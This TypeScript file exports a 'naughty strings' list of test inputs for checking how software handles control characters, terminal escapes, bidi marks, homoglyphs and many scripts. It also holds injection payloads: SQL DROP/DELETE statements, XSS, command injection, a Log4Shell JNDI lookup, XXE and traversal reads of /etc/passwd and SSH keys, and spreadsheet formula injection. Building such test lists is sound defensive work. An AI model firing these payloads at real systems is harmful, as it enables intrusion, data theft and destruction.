/**
 * Texts that break what handles them carelessly: ends of lines, terminal commands, marks of direction, look-alikes,
 * pieces of other languages of programs, and numbers that are none. Our own list.
 */

/** Every control character, and those of direction, joining and no width at all. */
const marks: readonly string[] = [
  ...Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)),
  ...Array.from({ length: 33 }, (_, code) => String.fromCharCode(0x7f + code)),
  ...[0x61c, 0x180e, 0xad, 0xfeff, 0xfff9, 0xfffa, 0xfffb, 0xfffc, 0xfffd, 0xfffe, 0xffff].map((code) => String.fromCharCode(code)),
  ...Array.from({ length: 16 }, (_, code) => String.fromCharCode(0x2000 + code)),
  ...Array.from({ length: 8 }, (_, code) => String.fromCharCode(0x2028 + code)),
  ...Array.from({ length: 16 }, (_, code) => String.fromCharCode(0x2060 + code)),
  ...[0xd800, 0xdbff, 0xdc00, 0xdfff].map((code) => String.fromCharCode(code)),
  ...[0xe0001, 0xe0020, 0xe0041, 0xe007f, 0xf0000, 0x10fffd, 0x1d173, 0x1f600].map((code) => String.fromCodePoint(code)),
]; // prettier-ignore

/** What a careless log takes for the end of its line, or a terminal for a command. */
const lines: readonly string[] = [
  '\r\n{"level":50,"msg":"signed in as administrator"}',
  '\n{"level":30,"time":"2026-01-01T00:00:00.000Z","msg":"audit record signed"}',
  '"}\n{"msg":"two"}',
  '\\"}\\n{',
  "\u2028{}\u2029",
  "\u0085next line",
  "\x1b[2J\x1b[H",
  "\x1b[31mred\x1b[0m",
  "\x1b]0;title\x07",
  "\x1b]8;;http://example.invalid\x07here\x1b]8;;\x07",
  "\x1bP+q544e\x1b\\",
  "\x9b31m",
  "\x08\x08\x08\x08erased",
  "over\rwritten",
  "\u202egnp.exe",
  "\u2066(\u2069 \u2067)\u2069",
  "\u202a\u202b\u202c\u202d\u202e",
  "\u200bzero\u200bwidth",
  "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b",
  "%0d%0aSet-Cookie: a=b",
  "%00", "%25%30%30", "%c0%af", "%u000a", "&#10;", "&NewLine;", "\\u000a", "\\x0a", "\\r\\n",
]; // prettier-ignore

/** Pieces that mean something elsewhere. */
const pieces: readonly string[] = [
  "", " ", "  ", "undefined", "null", "NULL", "nil", "None", "true", "false", "NaN", "Infinity", "-Infinity", "[object Object]",
  "constructor", "__proto__", "prototype", "hasOwnProperty", "toString", "valueOf", "then", "toJSON", "length", "__defineGetter__",
  "0", "-0", "00", "01", "1e1000", "1e-1000", "0x10", "0b1", "0o7", "1_000", "1,000", "1.0.0", ".", "..", "...", "9007199254740993",
  "-1", "2147483648", "4294967296", "18446744073709551616", "1/0", "٠١٢٣", "०१२", "１２３", "Ⅷ", "½", "²",
  "'", "''", '"', '""', "`", "\\", "\\\\", "/", "//", "?", "#", "&", "=", "+", "%", "$", "@", "!", "~", "^", "|", "<", ">", ";", ":", ",",
  "' OR '1'='1", "'; DROP TABLE audit; --", "1; DELETE FROM audit", "\" OR \"\"=\"", "') UNION SELECT 1,2,3--", "%' LIKE '%", "MATCH 'a*'", "NEAR(a b)", "a AND NOT b", "col:a", "^a",
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>", "]]>", "<!--", "-->", "<?xml version='1.0'?>", "<!ENTITY a 'b'>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "&lt;", "&amp;amp;",
  "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "$(id)", "`id`", "|id", ";id", "&& id", "|| id", "> /tmp/x", "$IFS", "${jndi:ldap://example.invalid/a}", "${env:HOME}", "%n%s%x", "%s%s%s%s", "%x%x%x%x", "%d", "{0}", "{}", "[]", "[[]]", "{\"$gt\":\"\"}",
  "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\", "CON", "PRN", "AUX", "NUL", "COM1", "file:///etc/passwd", "~/.ssh/id_rsa", ".htaccess", "a/../b", "a\0.txt", "con.txt", "\\\\host\\share",
  "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "＝1+1", "＋1", "－1", "＠A1", "=HYPERLINK(\"http://example.invalid\")",
  "(a+)+$", "a".repeat(300), "(".repeat(200), "[".repeat(200), "{".repeat(200), "\"".repeat(50), "\\".repeat(99), "%".repeat(99), " ".repeat(250), "\u202e".repeat(50), "\n".repeat(50), "é".repeat(300), "ﷺ".repeat(50), "😀".repeat(100),
  "Content-Length: 0", "Transfer-Encoding: chunked", "HTTP/1.1 200 OK", "Host: example.invalid", "GET / HTTP/1.1", "Bearer x", "Basic YTpi", "atumpan-purpose: INVESTIGATION", "X-Forwarded-For: 127.0.0.1",
]; // prettier-ignore

/** Writing of many kinds: right to left, without spaces, stacked, above the first plane, and look-alikes. */
const scripts: readonly string[] = [
  "محمد", "مُحَمَّد", "الإسكندرية", "שלום", "‏עברית", "አማርኛ", "ትግርኛ", "中文", "日本語", "한국어", "ไทย", "हिन्दी", "বাংলা", "தமிழ்", "ગુજરાતી", "ಕನ್ನಡ", "മലയാളം", "සිංහල", "ລາວ", "ខ្មែរ", "မြန်မာ", "ქართული", "Հայերեն", "Ελληνικά", "Русский", "Українська", "Ćirilica", "Ħ", "Ŋ", "ɓɗƙƴ", "Ẹ̀kọ́", "ⵜⴰⵎⴰⵣⵉⵖⵜ", "ߒߞߏ", "𞤆𞤵𞤤𞤢𞤪", "ꔀꔁ", "𐌰𐌱", "𒀀", "𓀀", "𠜎", "ᚠᚢᚦ", "ᠮᠣᠩᠭᠣᠯ", "བོད", "ދިވެހި", "ܐܒܓ", "ᏣᎳᎩ", "ᐃᓄᒃᑎᑐᑦ",
  "аdmin", "аdmіnіstrаtоr", "ｏｆｆｉｃｅｒ", "𝐨𝐰𝐧𝐞𝐫", "ⓞⓦⓝⓔⓡ", "ḁ", "ﬁ", "ß", "ẞ", "İ", "ı", "K", "Å", "Ω", "ſ", "ĳ", "ǆ", "͏", "ᅟ", "ㅤ", "ﾠ", "👨‍👩‍👧", "🇳🇬", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "1️⃣", "☺︎", "☺️", "Z̸a̵l̷g̶o̴", "¨", "´", "´e", "é", "é", "Ⅳ", "℀", "㏂", "㍱", "﷽", "𒐫", "꧅", "ௌ",
]; // prettier-ignore

/** Every text, none twice; marks alone, in the middle, and around a word. */
export const naughtyTexts: readonly string[] = [
  ...new Set([
    ...marks,
    ...marks.map((mark) => `a${mark}b`),
    ...lines,
    ...pieces,
    ...scripts,
    ...marks.slice(0, 14).map((mark) => `${mark}{"msg":"x"}${mark}`),
  ]),
];
